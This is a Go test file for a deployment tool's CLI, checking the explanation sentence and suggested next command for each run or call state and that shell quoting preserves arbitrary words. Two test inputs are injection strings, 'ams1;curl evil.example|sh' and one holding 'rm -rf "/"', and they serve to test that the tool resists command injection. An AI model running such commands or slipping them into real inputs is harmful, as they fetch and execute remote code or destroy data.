package why

import (
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"writ"
	"writ/cmd/writ/internal/cli"
	"writ/coord/api"
	"writ/identity"
	"writ/scripts"
)

// TestEveryWaitAndFailureHasItsSentence checks the sentence for each reason.
//
// Promise: Operation: Each waiting or failed item has one sentence of explanation and the next command.
// How: Supervisors journal the reason of each held call or run; `writ run explain` follows it to its first cause.
// Also: TestAResumeIsAdvisedOnlyWhereItCanHelp
//
// Promise: Operation: The advised command for another submission uses the same place and parameters, with any
// characters.
// How: Parameters come from the signed text, whose digest forms the run's id; each word is quoted for the shell.
// Also: TestShellReadsQuotedWordsUnchanged, TestScripts/submit.
func TestEveryWaitAndFailureHasItsSentence(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	id := writ.RunIDOf(writ.Digest{1})
	other := writ.RunIDOf(writ.Digest{2})
	failed := func(code writ.Code) *writ.Error { return writ.Errorf(code, "told to fail") }
	failure := func(code writ.Code, seq int) *writ.Failure {
		return &writ.Failure{Error: *failed(code), Position: "web.tengo:3:1", Seq: seq}
	}
	volume := func(seq int, state writ.CallState, change ...func(c *writ.Call)) writ.Call {
		c := writ.Call{Run: id, Seq: seq, Operation: "volume.create", Name: "v", State: state, Attempt: 1, Node: "n", NodeName: "n1", Started: now.Add(-time.Minute)}
		for _, f := range change {
			f(&c)
		}
		return c
	}
	because := func(why writ.Reason) func(c *writ.Call) {
		return func(c *writ.Call) { c.Why, c.Reason = why, why.String() }
	}
	hold := func(h writ.HoldReason) writ.Reason {
		h.Since = time.Date(2026, 3, 1, 12, 0, 5, 0, time.UTC)
		return writ.Reason{Code: writ.ReasonHold, Hold: &h}
	}
	retry := func(minute int) writ.Reason {
		return writ.Reason{Code: writ.ReasonRetry, Until: time.Date(2026, 3, 1, 12, minute, 3, 0, time.UTC), Error: failed(writ.CodeInjected)}
	}
	progress := func(text string) writ.Reason { return writ.Reason{Code: writ.ReasonProgress, Text: text} }
	runWaits := func(s *Situation, why writ.Reason) {
		s.Run.State, s.Run.Why, s.Run.Reason = api.RunStateAccepted, why, why.String()
	}
	for _, tt := range []struct {
		name   string
		change func(s *Situation)
		why    string // of the run
		next   string
		calls  string // all texts about calls
	}{
		{"SplitByARead", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeResourceConflict, 3)
			made := func(node writ.NodeID) func(c *writ.Call) {
				return func(c *writ.Call) { c.Node, c.Change = node, writ.ChangeCreated }
			}
			s.Calls = []writ.Call{volume(1, writ.CallSucceeded, made("n")), volume(2, writ.CallSucceeded, made("m")),
				volume(3, writ.CallFailed, func(c *writ.Call) { c.After, c.Error = []int{1, 2}, failed(writ.CodeResourceConflict) })}
		}, "call 3 (volume.create v) failed: RESOURCE_CONFLICT", "writ check web.tengo", ""},
		{"SubmissionWaits", func(s *Situation) { s.Run.State, s.Run.Accepted = api.RunStateWaiting, time.Time{} }, "waits for its datacenter ams1 to connect", "writ dc list", ""},
		{"SubmissionRefused", func(s *Situation) {
			s.Run.State, s.Run.Accepted, s.Run.Failure = api.RunStateRefused, time.Time{}, failure(writ.CodeRoleMissing, 0)
		}, "ROLE_MISSING: told to fail", "writ submit web.tengo --project shop --dc ams1", ""},
		{"DatacenterAway", func(s *Situation) { s.datacenter.Health = api.DatacenterHealthAway }, "datacenter ams1 is away", "writ dc list", ""},
		{"NodeOfADatacenterThatIsAway", func(s *Situation) {
			s.datacenter.Health = api.DatacenterHealthAway
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
		}, "datacenter ams1 is away", "writ dc list", "n1 has worked on it for 1m0s, in attempt 1 "},
		{"SignerRevoked", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeSignerRevoked, 0)
		}, "SIGNER_REVOKED", "writ run show " + string(id), ""},
		{"Blocked", func(s *Situation) {
			runWaits(s, writ.Reason{Code: writ.ReasonRun, Run: other, Deployment: "web"})
		}, "an earlier one of the deployment web", "writ run explain " + string(other), ""},
		{"OnHold", func(s *Situation) {
			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1", By: "alice", Text: "the node n1 burns"}))
		}, "alice has held the datacenter since", "writ release --dc ams1", ""},
		{"CallOnHold", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(hold(writ.HoldReason{Datacenter: "ams1", Operation: "volume", By: "bob"})))}
		}, "waits for 1", "", "since 12:00:05 UTC writ release --dc ams1 --operation volume"},
		{"ACommandThatNobodyShouldType", func(s *Situation) {
			runWaits(s, hold(writ.HoldReason{Datacenter: "ams1;curl evil.example|sh", By: "eve", Text: "evil"}))
		}, "it is on hold: eve has held the datacenter since 12:00:05 UTC (evil)", "writ run watch " + string(id), ""},
		{"AfterARestore", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNodeReport, Nodes: []writ.NodesReason{{Names: []string{"n2"}}}}))}
		}, "waits for 1", "", "came from a backup writ node list"},
		{"BeforeItsFirstPass", func(s *Situation) { s.Run.State = api.RunStateAccepted }, "evaluated next", "writ run watch " + string(id), ""},
		{"NoNode", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNoNode, Nodes: []writ.NodesReason{{Names: []string{"n1"}, Text: "is silent"}}}))}
		},
			"waits for 1 of its 1 call: call 1 (volume.create v)", "", "no node is ready: n1: is silent writ node list"},
		{"ResourceBusy", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonResource, Run: other, Resource: "volume v"}))}
		}, "waits for 1", "", "still works on the volume v writ run explain " + string(other)},
		{"Retry", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(0)))}
		},
			"waits for 1", "", "is tried again at 12:00:03 UTC, after INJECTED"},
		{"RetryAtANodeThatTakesNothing", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, because(retry(30)), func(c *writ.Call) { c.Error = failed(writ.CodeInjected) })}
			s.nodes["n"] = writ.Node{Liveness: writ.LivenessReady, Health: writ.Health{Fault: "the node's journal cannot be written: the disk is full"}}
		}, "waits for 1", "", "its node n1 takes no work: the node's journal cannot be written: the disk is full; its last attempt ended with INJECTED: told to fail writ node show n1 --dc ams1"},
		{"Dependency", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallRunning), volume(2, writ.CallPlanned, func(c *writ.Call) { c.After = []int{1} })}
		}, "waits for 2 of its 2 calls", "", "it needs call 1 (volume.create v), which is running"},
		{"BehindOthers", func(s *Situation) {
			s.Calls, s.queues["n"] = []writ.Call{volume(1, writ.CallPlanned)}, writ.QueueDepth{Planned: 7, Queued: 4, Running: 4}
		}, "waits for 1", "", "it waits for a slot of n1, which already has 8 calls; 7 wait for capacity writ node list"},
		{"Sent", func(s *Situation) {
			s.Calls, s.queues["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.QueueDepth{Queued: 3, Running: 4}
		}, "waits for 1", "", "which works on 4 calls; 3 wait for a slot there, including this one"},
		{"SentToASilentNode", func(s *Situation) {
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
		}, "waits for 1", "", "which is silent since"},
		{"SentToALostNode", func(s *Situation) {
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallQueued)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
		{"RunningOnALostNode", func(s *Situation) {
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning)}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
		{"BoundToALostNode", func(s *Situation) {
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallPlanned, because(writ.Reason{Code: writ.ReasonNode, Node: "n1", State: "lost"}))}, writ.Node{Liveness: writ.LivenessLost, LastBeat: now}
		}, "waits for 1", "", " writ node lost n1 --dc ams1"},
		{"ScriptWaitsForALostNode", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallQueued, because(writ.Reason{Code: writ.ReasonLostNode, Node: "n1"}))}
		}, "waits for 1", "", "waits for it (on_loss) writ node lost n1 --dc ams1"},
		{"Running", func(s *Situation) { s.Calls = []writ.Call{volume(1, writ.CallRunning)} }, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1"},
		{"Hanging", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallRunning, because(progress("0 %")), func(c *writ.Call) { c.EndBy = now.Add(time.Hour) })}
		}, "waits for 1", "writ run watch " + string(id), "in attempt 1, which its timeout ends by " + cli.Clock(now.Add(time.Hour)) + ": 0 % writ run cancel " + string(id)},
		{"FarOn", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}
		}, "waits for 1", "", "n1 has worked on it for 1m0s, in attempt 1: 64 of 2048 MiB are there"},
		{"FarOnAtASilentNode", func(s *Situation) {
			s.Calls, s.nodes["n"] = []writ.Call{volume(1, writ.CallRunning, because(progress("64 of 2048 MiB are there")))}, writ.Node{Liveness: writ.LivenessSilent, LastBeat: now}
		}, "waits for 1", "", "; 64 of 2048 MiB are there writ node show n1 --dc ams1"},
		{"BehindAStuckDriver", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallRunning, func(c *writ.Call) { c.Kind = writ.KindVolume })}
			s.nodes["n"] = writ.Node{Liveness: writ.LivenessReady, Health: writ.Health{Stuck: []writ.Stuck{
				{JobKey: writ.JobKey{Run: other, Seq: 3, Attempt: 1}, Operation: "volume.create", Name: "w", Since: now},
				{JobKey: writ.JobKey{Run: other, Seq: 4, Attempt: 1}, Operation: "volume.create", Name: "v", Since: now},
			}}}
		}, "waits for 1", "", "on n1 the driver of volume.create in call 4 of run " + string(other)},
		{"Unplaced", func(s *Situation) {
			s.Calls = []writ.Call{volume(1, writ.CallPlanned, func(c *writ.Call) { c.Node = "" })}
		}, "waits for 1", "", "gets its node"},
		{"DeadlineSoon", func(s *Situation) { s.Run.Deadline = now.Add(2 * time.Minute) }, "its deadline is in 2m", "", ""},
		{"FailedCall", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
		}, "call 1 (volume.create v) failed: INJECTED_FINAL: told to fail, at web.tengo:3:1", "writ run resume " + string(id), ""},
		{"FailedByItsOwner", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeNotOwner, 1)
			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeNotOwner) })}
		}, "NOT_OWNER", "writ plan web.tengo --project shop --dc ams1", ""},
		{"FailedCallWithHandledError", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeInjectedFinal, 1)
			s.Run.Failure.Handled = true
			s.Calls = []writ.Call{volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) })}
		}, "the script handled this error before, so a resume ends the same way", "writ submit web.tengo --project shop --dc ams1", ""},
		{"FailedDependency", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeDependencyFailed, 2)
			s.Calls = []writ.Call{
				volume(1, writ.CallFailed, func(c *writ.Call) { c.Error = failed(writ.CodeInjectedFinal) }),
				volume(2, writ.CallFailed, func(c *writ.Call) { c.After, c.Error = []int{1}, failed(writ.CodeDependencyFailed) }),
			}
		}, "call 2 (volume.create v) needs call 1 (volume.create v), which failed: INJECTED_FINAL", "writ run resume " + string(id), ""},
		{"FailedScript", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptFailed, 0) }, "SCRIPT_FAILED", "writ submit web.tengo --project shop --dc ams1", ""},
		{"FailedByItsLimit", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptLimit, 0) },
			"SCRIPT_LIMIT", "writ plan web.tengo --project shop --dc ams1", ""},
		{"FailedToBeUnderstood", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeScriptInvalid, 0)
		},
			"SCRIPT_INVALID", "writ check web.tengo", ""},
		{"FailedAtAnotherEngine", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeEngineUnsupported, 0)
		}, "ENGINE_UNSUPPORTED", "writ submit web.tengo --project shop --dc ams1", ""},
		{"FailedEvaluator", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0)
		},
			"EVALUATOR_CRASHED", "writ run resume " + string(id), ""},
		{"FailedAndTooLate", func(s *Situation) {
			s.Run.State, s.Run.Failure, s.Run.Deadline = api.RunStateFailed, failure(writ.CodeEvaluatorCrashed, 0), now
		}, "EVALUATOR_CRASHED", "writ submit web.tengo --project shop --dc ams1", ""},
		{"Cancelled", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, &writ.Failure{Error: *writ.Errorf(writ.CodeRunCancelled, "cancelled by alice")}
		}, "cancelled by alice", "writ submit web.tengo --project shop --dc ams1", ""},
		{"CancelledWithParameters", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
			s.Run.Deployment, s.Run.Script = "web", "my web.tengo"
			s.payload = &identity.Payload{Params: map[string]any{
				"count": int64(3), "fast": true, "names": []any{"a,b", "c"}, "title": "it's $HOME; rm -rf \"/\"", "two": "lines\nand \u202eback",
			}, Targets: []string{"volume/old", "volume/web-*"}, Prune: []string{"volume/old"}, Secrets: []string{"db-password@3"}}
		}, "RUN_CANCELLED", `writ submit 'my web.tengo' --project shop --dc ams1 --deployment web --prune=volume/old -p count=3 -p fast=true -p 'names=["a,b","c"]' ` +
			`-p 'title=it'\''s $HOME; rm -rf "/"' -p $'two=lines\x0aand \U0000202eback' '--destructive=volume/web-*'`, ""},
		{"CancelledWithManyCalls", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
			s.payload = &identity.Payload{MaxCalls: 3000}
		}, "RUN_CANCELLED", "writ submit web.tengo --project shop --dc ams1 --max-calls 3000", ""},
		{"CancelledWithTheUsualLimit", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
			s.payload = &identity.Payload{MaxCalls: scripts.UsualCalls}
		}, "RUN_CANCELLED", "writ submit web.tengo --project shop --dc ams1", ""},
		{"Expired", func(s *Situation) { s.Run.State, s.Run.Failure = api.RunStateExpired, failure(writ.CodeRunExpired, 0) }, "RUN_EXPIRED", "writ submit web.tengo --project shop --dc ams1", ""},
		{"CancelledWhoseTextIsNotKnown", func(s *Situation) {
			s.Run.State, s.Run.Failure = api.RunStateCancelled, failure(writ.CodeRunCancelled, 0)
		},
			"the coordinator does not have the signed text: add -p, --max-calls, --destructive and @REVISION of --deployment", "writ submit web.tengo --project shop --dc ams1", ""},
		{"RefusedForItsRevision", func(s *Situation) {
			s.Run.State, s.Run.Accepted, s.Run.Deployment, s.Run.Failure = api.RunStateRefused, time.Time{}, "web", failure(writ.CodeConflict, 0)
		}, "the coordinator does not have the signed text: add -p", "writ plan web.tengo --project shop --dc ams1 --deployment web", ""},
		{"ExpiredBeforeItsDatacenterHadIt", func(s *Situation) {
			s.Run.State, s.Run.Accepted, s.Run.Deployment, s.Run.Failure = api.RunStateExpired, time.Time{}, "web", failure(writ.CodeRunExpired, 0)
			s.payload = &identity.Payload{Deployment: identity.Deployment{Name: "web", Base: 3}, Params: map[string]any{"tag": "v3"}}
		}, "RUN_EXPIRED", "writ submit web.tengo --project shop --dc ams1 --deployment web@3 -p tag=v3", ""},
		{"Succeeded", func(s *Situation) { s.Run.State = api.RunStateSucceeded }, "all its calls have ended", "writ run show " + string(id), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			s := &Situation{
				Run:        api.Run{ID: id, State: api.RunStateRunning, Script: "web.tengo", ProjectName: "shop", Accepted: now.Add(-time.Hour), Deadline: now.Add(time.Hour)},
				datacenter: api.Datacenter{Name: "ams1", Health: api.DatacenterHealthHealthy},
				nodes:      map[writ.NodeID]writ.Node{"n": {Liveness: writ.LivenessReady}}, queues: map[writ.NodeID]writ.QueueDepth{}, now: now,
			}
			tt.change(s)
			got := s.Explain()
			if !strings.Contains(got.Why, tt.why) || tt.next != "" && got.Next.Line != tt.next {
				t.Errorf("why = %q, next = %q; want %q, %q", got.Why, got.Next.Line, tt.why, tt.next)
			}
			var calls []string
			for _, c := range got.Calls {
				calls = append(calls, c.Why+" "+c.Next.Line)
			}
			if all := strings.Join(calls, "; "); !strings.Contains(all, tt.calls) {
				t.Errorf("calls = %q, want %q", all, tt.calls)
			}
			if text := got.Text(); !strings.Contains(text, got.Why) {
				t.Errorf("as text:\n%s", text)
			}
		})
	}
}

// A resume is suggested only where it can help. It cannot change the script or its signed header.
func TestAResumeIsAdvisedOnlyWhereItCanHelp(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	id := writ.RunIDOf(writ.Digest{1})
	resume, plan := "writ run resume "+string(id), "writ plan web.tengo --project ''"
	for _, tt := range []struct {
		code writ.Code
		node writ.Node
		next string
	}{
		{writ.CodeOperationNotAllowed, writ.Node{}, plan},
		{writ.CodeDestructiveDenied, writ.Node{}, plan},
		{writ.CodeArgumentsInvalid, writ.Node{}, plan},
		{writ.CodeTooLarge, writ.Node{}, plan},
		{writ.CodeScriptLimit, writ.Node{}, plan},
		{writ.CodeImmutableField, writ.Node{}, plan},
		{writ.CodeNotOwner, writ.Node{}, plan},
		{writ.CodeResourceConflict, writ.Node{}, plan},
		{writ.CodeNodeLost, writ.Node{Name: "n1", Admission: writ.AdmissionRemoved}, "writ node lost n1"},
		{writ.CodeNodeLost, writ.Node{Admission: writ.AdmissionRemoved, Gone: true}, "writ submit web.tengo --project ''"},
		{writ.CodeNodeLost, writ.Node{Admission: writ.AdmissionApproved, Liveness: writ.LivenessLost}, resume},
		{writ.CodeDriverFailed, writ.Node{}, resume},
		{writ.CodeResourceBusy, writ.Node{}, resume},
		{writ.CodeResourceUnknown, writ.Node{}, resume},
		{writ.CodeNoCapacity, writ.Node{}, resume},
		{writ.CodeOutcomeUnknown, writ.Node{}, resume},
	} {
		failed := writ.Call{Run: id, Seq: 1, Operation: "volume.create", Name: "v", State: writ.CallFailed, Node: "n", NodeName: "n1", Error: writ.Errorf(tt.code, "told to")}
		needs := writ.Call{Run: id, Seq: 2, Operation: "machine.create", Name: "m", State: writ.CallFailed, After: []int{1}, Error: writ.Errorf(writ.CodeDependencyFailed, "told to")}
		for seq, of := range map[int]writ.Call{1: failed, 2: needs} {
			s := &Situation{
				Run: api.Run{ID: id, State: api.RunStateFailed, Script: "web.tengo", Accepted: now, Deadline: now.Add(time.Hour), Failure: &writ.Failure{Error: *of.Error, Seq: seq}},
				now: now, Calls: []writ.Call{failed, needs}, nodes: map[writ.NodeID]writ.Node{"n": tt.node},
			}
			if got := s.Explain().Next.Line; got != tt.next {
				t.Errorf("%s of call %d, node %s: %q, want %q", tt.code, seq, tt.node.Admission, got, tt.next)
			}
		}
	}
}

func TestShellReadsQuotedWordsUnchanged(t *testing.T) {
	t.Parallel()
	words := []string{"plain", "", "it's", `a\b "c" $HOME`, "two\nlines\t'and' \\ more", "\u202eback", "*", "~"}
	line := "printf '%s\\0'"
	for _, w := range words {
		line += " " + cli.ShellWord(w)
	}
	c := exec.Command("bash", "-c", line)
	c.Env = append(c.Environ(), "LC_ALL=C.UTF-8") // bash reads the line with the locale of its start
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatal(err, string(out))
	}
	if diff := cmp.Diff(words, strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")); diff != "" {
		t.Errorf("%s: (-want +got)\n%s", line, diff)
	}
}
